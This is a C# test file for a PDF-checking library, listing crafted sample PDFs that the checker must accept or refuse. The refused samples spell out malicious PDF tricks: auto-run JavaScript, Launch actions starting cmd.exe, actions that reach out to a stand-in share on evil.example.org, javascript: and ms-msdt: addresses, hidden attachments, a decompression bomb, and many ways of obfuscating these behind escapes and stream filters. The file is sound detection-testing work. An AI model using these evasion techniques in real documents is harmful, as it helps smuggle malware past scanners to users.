using AreaSend.FileChecks;
using AreaSend.FileChecks.Tests.Samples;
using static AreaSend.FileChecks.Tests.OddFile;
using static AreaSend.FileChecks.Tests.Samples.PdfSample;

namespace AreaSend.FileChecks.Tests;

/// <summary>PDFs.</summary>
internal static class OddPdfs
{
    private const string Action = "The PDF contains scripts";
    private const string Attachment = "Other files or media are attached inside the PDF";
    private const string Unchecked = "The PDF is built in a way that cannot be checked";

    public static OddFile[] All { get; } =
    [
        Taken("PDF", "plan.pdf", "an ordinary PDF", FileKind.Pdf, () => Of()),
        Taken("PDF with packed objects", "plan.pdf", "what Word and Acrobat save", FileKind.Pdf, () => Of(objects: Packed("/Type/ObjStm/N 1/First 4", Ascii("5 0 <</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.org)>>>>")))),
        Taken("PDF about a launch", "plan.pdf", "a word after a slash in a title is no action", FileKind.Pdf, () => Of(trailer: "/Info<</Title(Strategy: plan/Launch and review)>>")),
        Refused("PDF with a script", "plan.pdf", "runs on opening", "pdf-action", Action, () => Of("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")),
        Refused("PDF with a script spelled in hexadecimal", "plan.pdf", "names may be escaped", "pdf-action", Action, () => Of("/OpenAction<</S/J#61va#53cript/JS(x)>>")),
        Refused("PDF with a script after a keyword", "plan.pdf", "a name may follow a word at once", "pdf-action", Action, () => Of("/Marked true/S/JavaScript")),
        Refused("PDF with a packed script", "plan.pdf", "the action is in an object stream", "pdf-action", Action, () => Of(objects: Packed("/Type/ObjStm/N 1/First 4", Ascii("5 0 <</S/JavaScript/JS(x)>>")))),
        Refused("PDF with a packed script that hides its type", "plan.pdf", "the stream's type stands elsewhere", "pdf-action", Action, () => Of(objects: Packed("/Type 9 0 R/N 1/First 4", Ascii("5 0 <</S/JavaScript/JS(x)>>")))),
        Refused("PDF with objects packed twice", "plan.pdf", "no office program does", "pdf-structure", Unchecked, () => Of(objects: Stream("/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]", Ascii("789C>")))),
        Refused("PDF that starts a program", "plan.pdf", "a launch action", "pdf-action", Action, () => Of("/OpenAction<</S/Launch/F(cmd.exe)>>")),
        Refused("PDF that starts a program, spaced out", "plan.pdf", "a comment between key and value", "pdf-action", Action, () => Of("/OpenAction<</S %x\n /Launch/F(cmd.exe)>>")),
        Refused("PDF that opens a share", "plan.pdf", "an address without a scheme", "pdf-action", Action, () => Of("/OpenAction<</S/URI/URI(\\\\\\\\evil.example.org\\\\x)>>")),
        Refused("PDF with an attachment", "plan.pdf", "a file in a file", "pdf-attachment", Attachment, () => Of("/Names<</EmbeddedFiles 7 0 R>>")),
        Refused("PDF with a password", "plan.pdf", "inspectors cannot open it", "encrypted", "The PDF is protected: it needs a password, or it restricts", () => Of(trailer: "/Encrypt 6 0 R")),
        Refused("PDF form that runs", "plan.pdf", "XFA forms carry scripts", "pdf-action", Action, () => Of("/AcroForm<</XFA 8 0 R>>")),
        Refused("PDF bomb", "plan.pdf", "objects that unpack a thousandfold", "archive-size", "The file unpacks to far more", () => Of(objects: Packed("/Type/ObjStm/N 1/First 4", new byte[64 << 20]))),
        .. Packings,
        .. Others,
    ];

    private static byte[] Script => Ascii("5 0 <</S/JavaScript/JS(x)>>");

    /// <summary>A script in an object stream that other programs unpack (attack S1-5): with and without its type in sight.</summary>
    private static OddFile[] Packings =>
    [
        .. from type in (string[])["/Type/ObjStm", "/Type 9 0 R", ""]
           from packing in (IEnumerable<(string Name, string Dictionary, byte[] Content)>)
           [
               ("a predictor", "/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 27>>", Zlib([2, .. Script])),
               ("no predictor that is one", "/Filter/FlateDecode/DecodeParms<</Predictor 10/Columns 27>>", Zlib([0, .. Script])),
               ("two packings", "/Filter[/FlateDecode/FlateDecode]", Zlib(Zlib(Script))),
               ("digits", "/Filter/ASCIIHexDecode", Ascii(Convert.ToHexString(Script) + ">")),
               ("digits over packing", "/Filter[/ASCIIHexDecode/FlateDecode]", Ascii(Convert.ToHexString(Zlib(Script)) + ">")),
               ("a packing that stands elsewhere", "/Filter 8 0 R", Ascii(Convert.ToHexString(Script) + ">")),
               ("a text that looks like a stream", "/X(stream\nx)/Filter/ASCIIHexDecode", Ascii(Convert.ToHexString(Script) + ">")),
               ("a text that looks like an end", "/X(endobj)/Filter/ASCIIHexDecode", Ascii(Convert.ToHexString(Script) + ">")),
               ("two filters of which one counts", "/Filter/ASCIIHexDecode/Filter/FlateDecode", Ascii(Convert.ToHexString(Script) + ">")),
               ("a name in digits", "/F#69lter/ASCIIHexDecode", Ascii(Convert.ToHexString(Script) + ">")),
               ("an abbreviation", "/Filter/FlateDecode/DP<</Predictor 12/Columns 27>>", Zlib([2, .. Script])),
           ]
           select Refused($"PDF with objects behind {packing.Name} ({(type.Length == 0 ? "no type" : type)})", "plan.pdf", "qpdf and MuPDF read the script", "pdf-structure", Unchecked,
               () => Of(objects: Stream($"{type}/N 1/First 4{packing.Dictionary}", packing.Content))),
        Refused("PDF with objects behind many blanks", "plan.pdf", "the dictionary is longer than one reading", "pdf-structure", Unchecked, () => Of(objects: Stream($"/N 1{new string(' ', 40_000)}/First 4/Filter/ASCIIHexDecode", Ascii(Convert.ToHexString(Script) + ">")))),
        Refused("PDF with objects that break off", "plan.pdf", "some programs take what there is", "pdf-structure", Unchecked, () => Of(objects: Stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", Zlib(Script)[..^8]))),
    ];

    private static OddFile[] Others =>
    [
        Refused("PDF with an attachment without a type", "plan.pdf", "pdfdetach lists it (attack S1-6)", "pdf-attachment", Attachment, () => Of("/X<</Subtype/Text/FS<</F(x.exe)/EF<</F 5 0 R>>>>>>")),
        Refused("PDF with an attachment elsewhere", "plan.pdf", "the same by reference, with a remark between", "pdf-attachment", Attachment, () => Of("/AF[<</F(x.exe)/EF % here\n 5 0 R>>]")),
        Refused("PDF with a packed attachment", "plan.pdf", "the same in an object stream", "pdf-attachment", Attachment, () => Of(objects: Packed("/Type/ObjStm/N 1/First 4", Ascii("5 0 <</F(x.exe)/EF<</F 6 0 R>>>>")))),
        Refused("PDF with a paper clip", "plan.pdf", "an attachment on a page", "pdf-attachment", Attachment, () => Of("/X<</Subtype/FileAttachment>>")),
        Refused("PDF with a script of a model", "plan.pdf", "it runs when the model is shown", "pdf-action", Action, () => Of("/X<</Subtype/3D/OnInstantiate 7 0 R>>")),
        Refused("PDF with a model", "plan.pdf", "nobody can check it", "pdf-attachment", Attachment, () => Of("/X<</Subtype/3D/3DD 7 0 R>>")),
        Refused("PDF with a film", "plan.pdf", "an old kind of media", "pdf-attachment", Attachment, () => Of("/X<</Subtype/Movie>>")),
        Refused("PDF that opens another file", "plan.pdf", "on a share, on opening", "pdf-action", Action, () => Of("/OpenAction<</S/GoToR/F(\\\\\\\\evil.example.org\\\\s\\\\x.pdf)>>")),
        Refused("PDF with a script as an address", "plan.pdf", "javascript:", "pdf-action", Action, () => Of("/X<</S/URI/URI(javascript:app.alert\\(1\\))>>")),
        Refused("PDF with a script as an address in digits", "plan.pdf", "the same, not to be read at once", "pdf-action", Action, () => Of("/X<</S/URI/URI <6A6176617363726970743A78>>>")),
        Refused("PDF with a script as an address in escapes", "plan.pdf", "the same", "pdf-action", Action, () => Of("/X<</S/URI/URI(\\152ava\\\nscript\\072x)>>")),
        Refused("PDF with a script as an address elsewhere", "plan.pdf", "an object of its own", "pdf-action", Action, () => Of("/X<</S/URI/URI 8 0 R>>", objects: Ascii("8 0 obj\n(javascript:x)\nendobj\n"))),
        Refused("PDF with an address that starts a program", "plan.pdf", "ms-msdt:", "pdf-action", Action, () => Of("/X<</S/URI/URI(ms-msdt:/id x)>>")),
        Taken("PDF with words that are names elsewhere", "plan.pdf", "prose after a slash", FileKind.Pdf, () => Of(trailer: "/Info<</Title(Film/Movie and plan/Launch, SEMH/EF in 2024)>>")),
        Taken("PDF with an outline and an appearance", "plan.pdf", "First and N of other things", FileKind.Pdf, () => Of("/Outlines<</First 7 0 R/Last 7 0 R>>/AP<</N 8 0 R>>", objects: Stream("/Length 9 0 R/N 3/Alternate/DeviceRGB/Filter/ASCIIHexDecode", Ascii("00>")))),
        Refused("PDF with objects that are not packed", "plan.pdf", "no program writes an object stream so", "pdf-structure", Unchecked, () => Of(objects: Stream("/Type/ObjStm/N 1/First 4", Ascii("5 0 <</Type/Annot>>")))),
    ];
}
